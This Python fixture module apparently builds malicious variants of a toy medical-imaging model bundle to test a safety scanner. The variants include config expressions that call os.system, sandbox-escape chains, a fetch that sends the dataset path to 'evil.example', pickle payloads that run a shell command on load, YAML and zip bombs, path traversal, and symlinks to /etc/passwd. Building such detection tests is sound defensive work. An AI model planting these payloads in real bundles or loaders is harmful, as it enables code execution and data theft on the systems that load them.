"""Bundles that would do harm if they were run: each trick changes a harmless one. MARK stands for the harm."""

from __future__ import annotations

import io
import json
import os
import pickle
import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch
import yaml

from toy_bundle import make_toy_bundle


def make_clean_bundle(root: Path) -> Path:
    """The toy, whose own way to train is to copy files, with a training that is said in components."""
    make_toy_bundle(root)
    training = {"network_def": {"_target_": "UNet"}, "run_dir": "runs", "training": ["$@train#trainer.run()"]}
    (root / "configs" / "train.yaml").write_text(yaml.safe_dump(training))
    return root


Trick = Callable[[Path], object]
TRICKS: dict[str, Trick] = {}
# Tricks of archives, which no folder can show.
ZIP_TRICKS: dict[str, Callable[[zipfile.ZipFile], object]] = {}
# What would be left behind by the harm.
MARK = "clinibundle_was_here"
HARM = f"touch {MARK}"


def _config(root: Path, name: str = "inference") -> tuple[Path, dict[str, Any]]:
    path = root / "configs" / f"{name}.yaml"
    return path, yaml.safe_load(path.read_text())


def _with(name: str, change: Callable[[dict[str, Any]], object], config: str = "inference") -> None:
    def trick(root: Path) -> None:
        path, content = _config(root, config)
        change(content)
        path.write_text(yaml.safe_dump(content, sort_keys=False))

    TRICKS[name] = trick


def _expression(name: str, text: str, config: str = "inference") -> None:
    _with(name, lambda content: content.update(hidden=text), config)


def _component(name: str, component: dict[str, Any]) -> None:
    _with(name, lambda content: content["preprocessing"]["transforms"].append(component))


def _text_file(name: str, path: str, text: str) -> None:
    def trick(root: Path) -> None:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)

    TRICKS[name] = trick


def _binary(name: str, path: str, content: bytes) -> None:
    def trick(root: Path) -> None:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(content)

    TRICKS[name] = trick


# Expressions
_expression("import and call", f"$__import__('os').system('{HARM}')")
_expression("statement that imports os", "$import os; os.system('x')")
_expression("import under another name", "$import subprocess as numpy")
_expression("import over a builtin", "$from os import system as sorted")
_expression("getattr chain", f"$getattr(getattr(monai, 'utils'), 'sys').modules['os'].system('{HARM}')")
_expression("subclasses of object", "$[c for c in ().__class__.__base__.__subclasses__() if 'Popen' in str(c)]")
_expression("globals of a function", "$monai.utils.set_determinism.__globals__['os'].popen('id')")
_expression("globals by way of a reference", "$@network.forward.__globals__['__builtins__']")
_expression("format reaches into objects", "$'{0.__init__.__globals__}'.format(@network)")
_expression("f-string with a call", "$f\"{__import__('os').getpid()}\"")
_expression("eval of a text", f'$eval(\'open("{MARK}", "w")\')')
_expression("exec by way of a lambda", "$(lambda f: f('import os'))(exec)")
_expression("compile", "$compile('1', 'x', 'exec')")
_expression("builtins by subscription", "$__builtins__['eval']('1')")
_expression("opens a file to write", f"$open('{MARK}', 'w')")
_expression("writes by pathlib", f"$pathlib.Path('{MARK}').write_text('x')")
_expression("deletes by pathlib", "$pathlib.Path(@output_dir).rmdir()")
_expression("library of another module", "$monai.utils.misc.subprocess.run(['id'])")
_expression("downloads from a hub", "$torch.hub.load('someone/x', 'y')")
_expression("loads a pickle", "$torch.load(@bundle_root + '/models/model.pt', weights_only=False)")
_expression("loads a library", "$torch.ops.load_library('x.so')")
_expression("compiles C++", "$torch.utils.cpp_extension.load_inline('x', 'int x;')")
_expression("path of modules", "$sys.path.insert(0, '/tmp/evil')")
_expression("sends to the network", "$urllib.request.urlopen('http://evil.example/' + @dataset_dir)")
_expression("full-width letters", "$ｏｓ.system('id')")
_expression("walrus gives os a name", "$[sorted := monai.utils.misc.os, sorted.system('id')]")
_expression("environment is called", "$os.environ['PAGER']('x')")
_expression("fills the memory by a power", "$10**10**10")
_expression("fills the memory by repetition", "$'a' * 10**12")
_expression("too long to read", "$" + "+".join(["1"] * 5000))
_expression("sets attributes", "$setattr(monai, 'x', 1)")
_expression("in training alone", f"$__import__('os').system('{HARM}')", config="train")
_expression("in a key of another kind", "$subprocess.check_output(['id'])", config="evaluate")
_with("expression as a key", lambda content: content.update({"$__import__('os').getpid()": 1}))
_with("nested in lists", lambda content: content.update(deep=[[[{"x": ["$__import__('os')"]}]]]))
_with("in a disabled component", lambda content: content.update(
    off={"_target_": "Identityd", "_disabled_": True, "keys": "$exec('1')"}))  # fmt: skip
_with("in what is required first", lambda content: content.update(
    first={"_target_": "Identityd", "_requires_": "$exec('1')", "keys": "image"}))  # fmt: skip

# Components
_component("eval as a component", {"_target_": "builtins.eval", "source": "1"})
_component("os.system as a component", {"_target_": "os.system", "command": HARM})
_component("Popen as a component", {"_target_": "subprocess.Popen", "args": ["id"]})
_component("MONAI's own downloader", {"_target_": "download_url", "url": "http://evil.example/x"})
_component("MONAI's own shell", {"_target_": "monai.apps.utils.subprocess.run", "args": ["id"]})
_component("MONAI runs another bundle", {"_target_": "monai.bundle.run", "config_file": "x"})
_component("Lambda", {"_target_": "Lambdad", "keys": "image", "func": "$lambda x: x"})
_component("partial of a call", {"_target_": "functools.partial", "_mode_": "callable", "func": "$exec"})
_component("attrgetter", {"_target_": "operator.attrgetter", "attr": "__globals__"})
_component("component by reference", {"_target_": "@hidden"})
_component("component by expression", {"_target_": "$@hidden"})
_component("component with look-alike letters", {"_target_": "Сompose", "transforms": []})
_component("debugger", {"_target_": "Identityd", "_mode_": "debug", "keys": "image"})
_component("reader of pickles", {"_target_": "LoadImaged", "keys": "image", "reader": "NumpyReader"})
_component("fetches weights", {"_target_": "DenseNet121", "in_channels": 1, "out_channels": 2, "pretrained": True})
_component("joblib", {"_target_": "joblib.load", "filename": "x"})
_component("import through own package", {"_target_": "scripts_x.tool.os.system", "command": HARM})
_component("web browser", {"_target_": "webbrowser.open", "url": "http://evil.example"})
_component("a package nobody knows", {"_target_": "very_useful_tools.Prepare"})

# Macros, links, paths
_with("macro out of the bundle", lambda content: content.update(more="%../../evil.json::x"))
_with("macro to an absolute file", lambda content: content.update(more="%/tmp/evil.yaml::x"))
_with("macro to a file elsewhere", lambda content: content.update(more="%evil.yaml::x"))
_with("link", lambda content: content.update(weights="https://evil.example/model.pt"))
_with("share of a Windows network", lambda content: content.update(weights="\\\\evil.example\\share\\model.pt"))
_with("absolute path", lambda content: content.update(output_dir="/etc/cron.d"))
_with("path that leads upwards", lambda content: content.update(output_dir="masks/../../.ssh"))
_expression("path that leads upwards in an expression", "$@output_dir + '/../../.ssh'")
_with("home folder", lambda content: content.update(output_dir="~/.ssh"))
_with("invisible characters", lambda content: content.update(note="$1 + 1 #\u202e2"))

# Files of configs
_text_file("YAML that makes objects", "configs/more.yaml", f"x: !!python/object/apply:os.system ['{HARM}']\n")
_text_file("YAML of a thousand laughs", "configs/more.yaml", "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
))  # fmt: skip
_text_file("key twice in YAML", "configs/more.yaml", "a: 1\na: $exec('1')\n")
_text_file("key twice in JSON", "configs/more.json", '{"a": 1, "a": "$exec(\'1\')"}')
_text_file("JSON too deep", "configs/more.json", "[" * 5000 + "]" * 5000)
_text_file("config of several megabytes", "configs/more.json", json.dumps({"a": "x" * 3 * 2**20}))
_text_file(
    "JSON beside the YAML", "configs/inference.json", json.dumps({"run": [f"$__import__('os').system('{HARM}')"]})
)
_text_file("config in another folder", "docs/extra.json", json.dumps({"x": {"_target_": "os.system", "command": "id"}}))
_text_file("logging: handler class", "configs/logging.conf", "[handler_x]\nclass=os.system\nargs=('id',)\n")
_text_file(
    "logging: arguments",
    "configs/logging.conf",
    "[handler_x]\nclass=StreamHandler\nargs=(__import__('os').getpid(),)\n",
)
_text_file("logging: formatter", "configs/logging.conf", "[formatter_x]\nclass=subprocess.Popen\n")
_text_file("logging: writes a file", "configs/logging.conf", "[handler_x]\nclass=FileHandler\nargs=('/tmp/x',)\n")
_text_file("expression in metadata", "configs/metadata.json", json.dumps({"version": "1.0.0", "task": "$exec('1')"}))

# Python of its own
_text_file("own Python runs a program", "scripts_x/tool.py", "import subprocess\nsubprocess.run(['id'])\n")
_text_file("own Python by way of importlib", "scripts_x/tool.py", "import importlib\nimportlib.import_module('os')\n")
_text_file("own Python hides a name", "scripts_x/tool.py", "import monai\nx = getattr(monai, 'ut' + 'ils')\n")
_text_file("own Python evals", "scripts_x/__init__.py", "eval('1')\n")
_text_file("own Python loads pickles", "scripts_x/tool.py", "import torch\ntorch.load('x', weights_only=False)\n")
_text_file("own Python writes", "scripts_x/tool.py", f"from pathlib import Path\nPath('{MARK}').write_text('x')\n")
_text_file("own Python that is none", "scripts_x/tool.py", "this is no (python\n")
_text_file("takes the place of a library", "numpy.py", "x = 1\n")
_text_file("takes the place of Python's own", "json/__init__.py", "x = 1\n")

# Weights and other binaries


class Harm:
    """Pickled, it runs a program when it is loaded."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (HARM,)


def _saved(what: Any, **options: Any) -> bytes:
    stream = io.BytesIO()
    torch.save(what, stream, **options)
    return stream.getvalue()


def _array_of_objects() -> bytes:
    stream = io.BytesIO()
    np.save(stream, np.array([{}], object), allow_pickle=True)
    return stream.getvalue()


_binary("pickle in weights", "models/model.pt", _saved({"weight": torch.zeros(1), "x": Harm()}))
_binary("pickle in old weights", "models/model.pt", _saved({"x": Harm()}, _use_new_zipfile_serialization=False))
_binary("plain pickle", "models/extra.pkl", pickle.dumps(Harm(), protocol=4))
_binary("pickle of protocol 0", "models/extra.pkl", pickle.dumps(Harm(), protocol=0))
_binary("pickle under another name", "docs/notes.dat", pickle.dumps(Harm(), protocol=2))
_binary("pickle behind a pickle", "models/model.pt", pickle.dumps(1, protocol=2) + pickle.dumps(Harm(), protocol=2))
_binary("array of objects", "models/prior.npy", _array_of_objects())
_binary("shared library", "models/fast.so", b"\x7fELF" + bytes(60))
_binary("program without an ending", "docs/run", b"\x7fELF" + bytes(60))
_binary("compiled Python", "scripts_x/tool.pyc", bytes(32))
_binary("script", "docs/install.sh", b"#!/bin/sh\nid\n")
_binary("wheel", "extra/torch-9.9-py3-none-any.whl", b"PK\x03\x04" + bytes(40))
_binary("archive inside", "models/more.tar.gz", b"\x1f\x8b" + bytes(40))
_text_file(
    "picture with a script", "docs/curve.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"
)
_text_file("picture with a handler", "docs/curve.svg", "<svg onload='fetch(1)'></svg>")
TRICKS["link to a file"] = lambda root: (root / "docs" / "passwords").symlink_to("/etc/passwd")
TRICKS["link to a folder"] = lambda root: (root / "extra").symlink_to("/etc", target_is_directory=True)
TRICKS["pipe"] = lambda root: os.mkfifo(root / "models" / "extra.pt")


def torchscript(root: Path) -> None:
    torch.jit.save(torch.jit.script(torch.nn.Linear(1, 1)), str(root / "models" / "model.ts"))


TRICKS["TorchScript"] = torchscript


# Archives
def _member(name: str, mode: int = 0) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    return info


ZIP_TRICKS["name that leads upwards"] = lambda archive: archive.writestr("toy/../../evil.py", "1")
ZIP_TRICKS["absolute name"] = lambda archive: archive.writestr("/etc/cron.d/evil", "1")
ZIP_TRICKS["name of Windows"] = lambda archive: archive.writestr("toy\\..\\evil.py", "1")
ZIP_TRICKS["drive of Windows"] = lambda archive: archive.writestr("C:/evil.py", "1")
ZIP_TRICKS["device of Windows"] = lambda archive: archive.writestr("toy/docs/nul.txt", "1")
ZIP_TRICKS["link in an archive"] = lambda archive: archive.writestr(
    _member("toy/x", stat.S_IFLNK | 0o777), "/etc/passwd"
)
ZIP_TRICKS["name in two cases"] = lambda archive: archive.writestr("toy/configs/INFERENCE.yaml", "a: 1")
ZIP_TRICKS["name with look-alikes"] = lambda archive: archive.writestr("toy/configs/inferеnce.yaml", "a: 1")
ZIP_TRICKS["name with control characters"] = lambda archive: archive.writestr("toy/docs/a\x1b[2Jb.md", "1")
ZIP_TRICKS["bomb"] = lambda archive: archive.writestr("toy/docs/zeros.bin", bytes(50 * 2**20), zipfile.ZIP_DEFLATED)
ZIP_TRICKS["file beside the bundle"] = lambda archive: archive.writestr("sitecustomize.py", "1")


def twice(archive: zipfile.ZipFile) -> None:
    archive.writestr("toy/configs/inference.yaml", "a: 1")


ZIP_TRICKS["name twice"] = twice


def locked(path: Path) -> None:
    """Marks the first member of an archive as locked with a password."""
    content = bytearray(path.read_bytes())
    start = content.find(b"PK\x01\x02")
    struct.pack_into("<H", content, start + 8, 1)
    path.write_bytes(bytes(content))
